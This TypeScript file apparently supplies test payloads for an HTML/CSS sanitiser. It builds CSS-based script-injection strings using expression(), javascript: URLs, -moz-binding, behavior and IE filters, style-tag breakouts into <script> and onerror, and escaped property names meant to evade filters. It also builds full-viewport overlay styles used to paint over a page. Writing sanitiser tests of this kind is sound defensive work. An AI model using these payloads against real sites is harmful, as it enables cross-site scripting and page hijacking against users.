import type { Payload } from './payload.ts';

const VALUES = [
  'x:expression(RUN)',
  'x:exp/**/ression(RUN)',
  'x:\\65xpression(RUN)',
  'width:e\\78pression(RUN)',
  '-moz-binding:url(data:text/xml,RUN)',
  'behavior:url(#default#time2)',
  'behavior:url(x.htc)',
  'background:url(javascript:RUN)',
  'background:url("javascript:RUN")',
  "background:url('data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22RUN%22/>')",
  'list-style-image:url(javascript:RUN)',
  'content:url(javascript:RUN)',
  'cursor:url(javascript:RUN),auto',
  '--x:url(javascript:RUN);background:var(--x)',
  'filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src="javascript:RUN")',
  'color:red}*{x:expression(RUN)',
  'color:red;}</style><script>RUN</script>',
  'font-family:"</style><img src=x:x onerror=RUN>"',
  'background:url("</style><img src=x:x onerror=RUN>")',
];

/** Where one paints over what is not one's own (bar B3). */
const OVER_THE_EDGE: readonly string[] = [
  'position:fixed;top:0;left:0;width:100vw;height:100vh;background:#f0f;z-index:2147483647',
  'position:absolute;top:-9999px;left:-9999px;width:30000px;height:30000px;background:#f0f',
  'margin:-5000px;padding:5000px;background:#f0f',
  'position:sticky;top:-1000px;background:#f0f;height:99999px',
  'transform:translate(-2000px,-2000px) scale(50);background:#f0f;width:100px;height:100px',
  'height:10000000px;background:#f0f',
  'width:10000000px;background:#f0f',
  'outline:5000px solid #f0f',
  'box-shadow:0 0 0 9999px #f0f',
  'text-indent:-5000px;font-size:5000px;color:#f0f;line-height:1',
  'float:left;margin-left:-9999px;width:20000px;background:#f0f;height:9999px',
  'p\\6fsition:fi\\78 ed;inset:0;background:#f0f;z-index:9',
  'all:initial;position:fixed!important;inset:0!important;background:#f0f!important',
  'inset:0;position:fixed;background:url(data:image/gif;base64,R0lGODlhAQABAIAAAP8A/wAAACH5BAAAAAAALAAAAAABAAEAAAICRAEAOw==)',
];

/** Styles that run, load, or paint where they may not; in attributes and in sheets. */
export const styleTricks = (): Payload[] => [
  ...VALUES.flatMap((style) =>
    [
      `<div style="${style.replaceAll('"', '&quot;')}">x</div>`,
      `<style>div{${style}}</style><div>x</div>`,
      `<svg><style>*{${style}}</style></svg>`,
      `<style>/*<!--*/div{${style}}/*-->*/</style><div>x</div>`,
      `<style media="x" onload=RUN>div{${style}}</style>`,
    ].map((html) => ({ family: 'style that runs', html })),
  ),
  ...OVER_THE_EDGE.flatMap((style) =>
    [`<div style="${style}">over</div>`, `<style>.big,body,html{${style}}</style><div class=big>over</div>`].map(
      (html) => ({ family: 'style that leaves its box', html }),
    ),
  ),
];
